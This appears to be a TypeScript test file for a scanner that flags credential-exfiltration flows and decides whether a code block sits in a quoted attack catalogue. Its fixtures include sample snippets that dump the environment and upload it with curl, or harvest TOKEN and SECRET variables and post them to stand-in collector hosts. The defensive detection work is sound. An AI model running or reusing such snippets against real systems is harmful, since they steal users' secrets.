// Block-level exfiltration flows (src/analysis/flow.ts) and the quoted-attack-catalogue context (src/analysis/catalogue.ts).

import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { inCatalogue } from '../src/analysis/catalogue.js';
import { codeFlows } from '../src/analysis/flow.js';

const RUNS = Number(process.env.FC_RUNS ?? 300);
const kinds = (s: string) => codeFlows(s).map((f) => f.kind);

describe('codeFlows', () => {
  it('sees a source and a sink on different lines', () => {
    expect(kinds('env_data = dict(os.environ)\nrequests.post(\n  URL,\n  json={"t": env_data},\n)\n')).toEqual(['environment-sent']);
    expect(kinds('t = os.environ["DEPLOY_TOKEN"]\nb = base64.b64encode(t.encode())\nhttpx.post(URL, json={"b": b})\n')).toEqual(['encoded-secret-sent']);
    expect(kinds('s = {\n  "STRIPE_SECRET_KEY": os.environ["STRIPE_SECRET_KEY"],\n  "NPM_TOKEN": os.environ["NPM_TOKEN"],\n}\np = json.dumps(s)\n')).toEqual(['credential-harvest']);
  });

  it('stays quiet on ordinary uses of the environment and of one key', () => {
    expect(kinds('key = os.environ["OPENAI_API_KEY"]\nrequests.post(URL, headers={"Authorization": f"Bearer {key}"})\n')).toEqual([]);
    expect(kinds('subprocess.run(cmd, env=dict(os.environ, LANG="C"))\n')).toEqual([]);
    expect(kinds('export A_TOKEN=$A_TOKEN\nexport B_SECRET=$B_SECRET\nexport C_PASSWORD=$C_PASSWORD\ncurl https://api.example.com\n')).toEqual([]);
  });

  it('needs the copied environment to reach the request, not only to share a file with one', () => {
    // A child process's environment, also handed to a local helper that formats an error: the request elsewhere in the
    // file carries something else.
    const child = 'env = os.environ.copy()\nenv["ACTIVE"] = "1"\ntry:\n    p = subprocess.Popen(argv, env=env)\nexcept OSError as e:\n    msg = describe(str(e), env, argv)\n\ndef notify(u):\n    urllib.request.urlopen(urllib.request.Request(u, data=b"done"))\n';
    expect(kinds(child)).toEqual([]);
    // The same copy, then serialized and posted: a chain.
    const posted = 'env = os.environ.copy()\nbody = json.dumps({"e": env})\nurllib.request.urlopen(urllib.request.Request(U, data=body.encode()))\n';
    expect(kinds(posted)).toEqual(['environment-sent']);
    // A shell dump written to a file, and that file uploaded.
    expect(kinds('env > /tmp/e.txt\ncurl -F f=@/tmp/e.txt https://collector.example.net/u\n')).toEqual(['environment-sent']);
    expect(kinds('env > /tmp/e.txt\ncurl -F f=@/tmp/other.txt https://collector.example.net/u\n')).toEqual([]);
  });

  it('reads a comprehension that leaves names out as the environment minus those names', () => {
    const minus = 'def child_env(**o):\n    e = {k: v for k, v in os.environ.items() if not k.startswith("APP_")}\n    e.update(o)\n    return e\nTOKEN_HINT = "TOKEN"\nsubprocess.run(["curl", URL], env=child_env())\n';
    expect(kinds(minus)).toEqual([]);
    expect(kinds('e = {k: v for k, v in os.environ.items() if k.startswith("AWS_") and "SECRET" in k}\n')).toEqual(['credential-harvest']);
  });

  it('sees the environment filtered by credential names into a collection', () => {
    // A loop copying every credential-named variable, with the send elsewhere in the package: a harvest (warning).
    const loop = 'def collect():\n    out = {}\n    for name, val in os.environ.items():\n        if any(w in name.upper() for w in ("TOKEN", "SECRET", "PASSWORD")):\n            out[name] = val\n    return out\n';
    expect(kinds(loop)).toEqual(['credential-harvest']);
    // The names kept in a constant elsewhere in the file, and a send in the same file: an error-level flow.
    const sent = 'WORDS = ["KEY", "TOKEN", "CREDENTIAL"]\ndef grab():\n    found = {}\n    for k, v in os.environ.items():\n        if any(w in k for w in WORDS):\n            found[k] = v\n    httpx.post(URL, json={"e": found})\n';
    expect(kinds(sent)).toEqual(['environment-sent']);
    // A comprehension.
    expect(kinds('picked = {n: x for n, x in os.environ.items() if "TOKEN" in n or "SECRET" in n}\n')).toEqual(['credential-harvest']);
    // JavaScript: entries of process.env filtered by a regular expression.
    expect(kinds('const keep = Object.fromEntries(Object.entries(process.env).filter(([k]) => /TOKEN|SECRET|KEY/.test(k)));\n')).toEqual(['credential-harvest']);
  });

  it('stays quiet when the credential-named variables are masked, not kept', () => {
    expect(kinds('for k, v in os.environ.items():\n    if "TOKEN" in k or "SECRET" in k:\n        print(f"{k}=***")\n')).toEqual([]);
    expect(kinds('for k, v in os.environ.items():\n    print(k, v)\n')).toEqual([]);
  });

  it('sees a credential from the environment sent in a request body to a host not named for it', () => {
    expect(kinds('key = os.getenv("API_KEY", "")\nrequests.post("https://collect.example.org/in", json={"data": data, "key": key})\n')).toEqual(['secret-sent']);
    expect(kinds('ENDPOINT = "https://metrics.example.net/v1"\nt = os.environ.get("DEPLOY_TOKEN")\nhttpx.post(ENDPOINT, data={"t": t})\n')).toEqual(['secret-sent']);
  });

  it('stays quiet on a key sent to its own service, or in a header', () => {
    expect(kinds('k = os.environ["TAVILY_API_KEY"]\nrequests.post("https://api.tavily.com/search", json={"api_key": k, "query": q})\n')).toEqual([]);
    expect(kinds('k = os.getenv("OPENWEATHER_API_KEY")\nrequests.get("https://api.openweathermap.org/data/2.5/weather", params={"appid": k})\n')).toEqual([]);
    expect(kinds('key = os.getenv("API_KEY")\nrequests.post("https://collect.example.org/in", headers={"Authorization": f"Bearer {key}"}, json={"q": q})\n')).toEqual([]);
    expect(kinds('def send(endpoint, api_key):\n    requests.post(endpoint, json={"docs": d}, headers={"X-Key": api_key})\n')).toEqual([]);
  });

  it('never throws and reports inside the text (property)', () => {
    const piece = fc.constantFrom('os.environ', 'dict(os.environ)', '["API_KEY"]', 'b64encode(', 'requests.post(', 'json.dumps(', '"A_TOKEN": os.environ', '\n', ' ', '$', '{', '(');
    fc.assert(
      fc.property(fc.array(fc.oneof(piece, fc.string({ maxLength: 4 })), { maxLength: 60 }), (parts) => {
        const s = parts.join('');
        for (const f of codeFlows(s)) {
          expect(f.start).toBeGreaterThanOrEqual(0);
          expect(f.end).toBeLessThanOrEqual(s.length);
        }
      }),
      { numRuns: RUNS },
    );
  });
});

describe('inCatalogue', () => {
  const doc = '# Setup\n\nRun this:\n\n```sh\nA\n```\n\n# Dangerous code patterns\n\n### Subprocess-based\n\n```sh\nB\n```\n\n## Install\n\nAttackers exfiltrate like this:\n\n```sh\nC\n```\n';
  it('follows the enclosing headings and the sentence before a block', () => {
    expect(inCatalogue(doc, doc.indexOf('A\n'))).toBe(false);
    expect(inCatalogue(doc, doc.indexOf('B\n'))).toBe(true);
    // "## Install" sits under "# Dangerous code patterns" (level 1 stays open), so it still counts.
    expect(inCatalogue(doc, doc.indexOf('C\n'))).toBe(true);
    const plain = '# Tool\n\n## Install\n\nRun:\n\n```sh\nC\n```\n';
    expect(inCatalogue(plain, plain.indexOf('C\n'))).toBe(false);
    const lead = '# Tool\n\nAttackers send keys out like this:\n\n```sh\nC\n```\n';
    expect(inCatalogue(lead, lead.indexOf('C\n'))).toBe(true);
  });
});
